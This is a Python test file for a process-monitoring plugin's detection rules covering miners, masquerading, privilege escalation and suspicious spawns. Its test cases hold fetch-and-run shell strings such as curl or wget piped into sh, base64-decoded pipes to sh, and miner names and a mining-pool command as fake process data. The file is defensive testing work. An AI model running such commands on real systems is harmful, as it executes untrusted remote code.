"""Each of the ten rules on fabricated processes, through the plugin's own answer."""

import json
import os
import time
from typing import Any

import pytest

from tests.unit.xtop.fakes import FakeSystem, process
from xtop.kernel import Kernel
from xtop.reading import Process
from xtop.samurai.plugin import SamuraiPlugin


def alerts(*processes: Process) -> list[dict[str, Any]]:
    kernel = Kernel(FakeSystem(*processes), [SamuraiPlugin()])
    found: list[dict[str, Any]] = json.loads(kernel.execute_plugin("samurai", "process.alerts", ""))
    return found


def findings(*processes: Process) -> list[tuple[str, str, int]]:
    return [(alert["rule"], alert["severity"], alert["pid"]) for alert in alerts(*processes)]


def test_a_harmless_process_raises_no_alert() -> None:
    assert alerts(process()) == []


@pytest.mark.parametrize(
    ("rule", "severity", "details"),
    [
        ("suspicious_exe_path", "Critical", {"exe": "/tmp/worker"}),
        ("suspicious_exe_path", "Critical", {"exe": "/dev/shm/worker"}),
        ("suspicious_exe_path", "Critical", {"exe": "/var/tmp/a/worker"}),
        ("suspicious_exe_path", "Critical", {"exe": "/proc/self/fd/worker"}),
        ("suspicious_exe_path", "Critical", {"exe": "/private/tmp/worker"}),
        ("suspicious_exe_path", "Critical", {"exe": "/private/var/tmp/worker"}),
        ("orphan_process", "Critical", {"ppid": 1, "run_time": 59}),
        ("orphan_process", "Warning", {"ppid": 1, "run_time": 60}),
        ("process_masquerading", "Critical", {"name": "sshd", "exe": "/opt/sshd"}),
        ("process_masquerading", "Critical", {"name": "lsass", "exe": "/home/anna/lsass"}),
        ("process_masquerading", "Warning", {"name": "calendar", "exe": "/opt/miner"}),
        (
            "process_masquerading",
            "Warning",
            {"name": "calendar", "exe": "/opt/miner", "cmd": "calendar --quiet"},
        ),
        ("privilege_escalation", "Critical", {"uid": 1000, "effective_uid": 0}),
        ("privilege_escalation", "Warning", {"uid": 1000, "effective_uid": 1001}),
        (
            "privilege_escalation",
            "Critical",
            {"name": "sudo", "exe": "/home/anna/sudo", "uid": 1000, "effective_uid": 0},
        ),
        ("known_threat_pattern", "Critical", {"name": "xmrig", "exe": None}),
        ("known_threat_pattern", "Critical", {"name": "minerd", "exe": None}),
        ("known_threat_pattern", "Critical", {"name": "kinsing", "exe": None}),
        ("known_threat_pattern", "Critical", {"name": "kdevtmpfsi", "exe": None}),
        ("known_threat_pattern", "Critical", {"name": "watchbog", "exe": None}),
        ("known_threat_pattern", "Critical", {"cmd": "worker --donate-level 1"}),
        ("known_threat_pattern", "Critical", {"cmd": "worker -o pool.supportxmr.com:443"}),
        ("suspicious_pipe_or_download", "Critical", {"cmd": "sh -c curl http://x/i | sh"}),
        ("suspicious_pipe_or_download", "Critical", {"cmd": "wget -qO- http://x | sudo bash"}),
        ("suspicious_pipe_or_download", "Critical", {"cmd": "echo aGk= | base64 -d | sh"}),
        ("suspicious_pipe_or_download", "Critical", {"cmd": "eval $(curl -s http://x)"}),
        ("suspicious_pipe_or_download", "Critical", {"cmd": 'bash -c "$(wget -O- http://x)"'}),
        (
            "suspicious_pipe_or_download",
            "Critical",
            {"cmd": "python3 -c import os\nimport socket; socket.socket()"},
        ),
        ("high_thread_anomaly", "Warning", {"threads": 500}),
        ("high_thread_anomaly", "Warning", {"threads": 1000, "cpu": 200.0}),
        ("high_thread_anomaly", "Critical", {"threads": 1001}),
        ("high_thread_anomaly", "Critical", {"threads": 500, "cpu": 200.1}),
        ("suspicious_fd_anomaly", "Info", {"open_files": 1000}),
    ],
)
def test_a_rule_fires_alone(rule: str, severity: str, details: dict[str, Any]) -> None:
    assert findings(process(**details)) == [(rule, severity, 4242)]


@pytest.mark.parametrize(
    "details",
    [
        {"exe": "/tmpfiles/worker"},
        {"exe": None},
        {"ppid": 1, "name": "systemd-journald", "exe": "/usr/lib/systemd/systemd-journald"},
        {"ppid": 1, "name": "nginx", "exe": "/usr/sbin/nginx"},
        {"ppid": 1, "name": "bash", "exe": "/usr/bin/bash"},
        {"ppid": 2, "run_time": 1},
        {"ppid": 1, "run_time": 1, "state": "zombie"},
        {"name": "sshd", "exe": "/usr/sbin/sshd"},
        {"name": "launchd", "exe": "/System/launchd"},
        {"name": "python3", "exe": "/usr/bin/python3.11"},
        {"exe": "/usr/bin/worker (deleted)"},
        {"name": "tool", "exe": "/usr/bin/python3.11", "cmd": "/usr/bin/python3 /usr/bin/tool x"},
        {"name": "sudo", "exe": "/usr/bin/sudo", "uid": 1000, "effective_uid": 0},
        {"name": "su", "exe": None, "uid": 1000, "effective_uid": 0},
        {"uid": None, "effective_uid": None},
        {"name": "gardener", "exe": None},
        {"cmd": "curl https://example.com/sheet"},
        {"cmd": "curl https://example.com | grep bash"},
        {"cmd": "python3 -c print('requests')"},
        {"threads": 499, "cpu": 300.0},
        {"name": "java", "exe": "/usr/bin/java", "threads": 2000},
        {"name": "firefox", "exe": "/usr/bin/firefox", "threads": 600},
        {"open_files": 999},
        {"open_files": None},
        {"name": "postgres", "exe": "/usr/bin/postgres", "open_files": 5000},
    ],
)
def test_no_rule_fires(details: dict[str, Any]) -> None:
    assert alerts(process(**details)) == []


def test_the_monitor_does_not_suspect_itself() -> None:
    assert alerts(process(pid=os.getpid(), cmd="xtop call processes.search curl x | sh")) == []


BROWSER = process(pid=10, name="Google Chrome", exe="/opt/google chrome/chrome")


@pytest.mark.parametrize(
    "child",
    [
        {"name": "chrome_crashpad_handler", "exe": "/opt/chrome_crashpad_handler"},
        {"name": "Google Chrome Helper", "exe": "/opt/google chrome helper"},
        {"name": "Google Chrome", "exe": "/opt/google chrome/chrome"},
        {"name": "chrome", "exe": "/opt/google chrome/chrome"},
    ],
)
def test_a_part_of_a_browser_is_no_suspicious_child(child: dict[str, Any]) -> None:
    assert alerts(BROWSER, process(ppid=10, **child)) == []


def test_a_foreign_child_of_a_browser_is_suspicious() -> None:
    child = process(ppid=10, name="bash", exe="/usr/bin/bash")
    assert findings(BROWSER, child) == [("suspicious_child_of_browser", "Warning", 4242)]


def test_the_same_child_of_something_else_is_not() -> None:
    editor = process(pid=10, name="editor", exe="/usr/bin/editor")
    assert alerts(editor, process(ppid=10, name="bash", exe="/usr/bin/bash")) == []


def young(count: int, run_time: int = 10, first_pid: int = 100) -> list[Process]:
    return [process(pid=first_pid + number, run_time=run_time) for number in range(count)]


def test_six_new_processes_of_one_name_are_a_storm() -> None:
    storm = [
        *young(5),
        process(pid=900, run_time=1),
    ]
    assert findings(*storm) == [("recent_spawn_storm", "Warning", 900)]


def test_five_new_processes_of_one_name_are_no_storm() -> None:
    assert alerts(*young(5)) == []


def test_old_processes_are_no_storm() -> None:
    assert alerts(*young(20, run_time=125)) == []


def test_new_processes_of_different_names_are_no_storm() -> None:
    names = [
        process(pid=pid, name=f"worker{pid}", exe=f"/usr/bin/worker{pid}", run_time=5)
        for pid in range(100, 120)
    ]
    assert alerts(*names) == []


def test_a_storm_counts_processes_that_have_ended_between_two_analyses() -> None:
    system = FakeSystem(*young(3))
    kernel = Kernel(system, [SamuraiPlugin()])
    for _ in range(5):
        kernel.tick()
    assert json.loads(kernel.execute_plugin("samurai", "process.alerts", "")) == []
    system.running = young(3, first_pid=200)
    for _ in range(5):
        kernel.tick()
    found = json.loads(kernel.execute_plugin("samurai", "process.alerts", ""))
    assert [alert["rule"] for alert in found] == ["recent_spawn_storm"]


def test_a_process_counts_once_however_often_it_is_seen() -> None:
    started = time.time() - 10
    same = [process(pid=pid, started=started) for pid in range(100, 105)]
    kernel = Kernel(FakeSystem(*same), [SamuraiPlugin()])
    for _ in range(20):
        kernel.tick()
    assert json.loads(kernel.execute_plugin("samurai", "process.alerts", "")) == []


def test_an_alert_says_what_where_and_why() -> None:
    assert alerts(process(exe="/tmp/worker")) == [
        {
            "rule": "suspicious_exe_path",
            "severity": "Critical",
            "pid": 4242,
            "process": "worker",
            "message": "runs from /tmp/worker",
        }
    ]


def test_fifty_alerts_at_most_and_the_most_severe_first() -> None:
    crowd = [process(pid=pid, open_files=1000) for pid in range(1000, 1060)]
    found = findings(*crowd, process(pid=5, exe="/tmp/worker"), process(pid=6, threads=600))
    assert len(found) == 50
    assert [severity for _, severity, _ in found[:3]] == ["Critical", "Warning", "Info"]
